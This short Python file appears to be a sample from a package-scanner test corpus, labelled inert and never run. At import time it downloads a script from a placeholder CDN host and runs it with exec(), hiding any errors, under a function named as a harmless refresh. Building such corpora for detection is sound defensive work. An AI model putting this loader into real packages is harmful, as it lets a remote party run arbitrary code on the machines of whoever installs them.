# pkgguard corpus 334 (import-time), modelled on [empirical]; inert, never run.
import asyncio

import aiohttp


async def _refresh():
    async with aiohttp.ClientSession() as session:
        async with session.get("https://cdn.example/r.py") as resp:
            code = await resp.text()
    exec(code, {"__name__": "pkg_refresh"})


try:
    asyncio.run(_refresh())
except Exception:
    pass
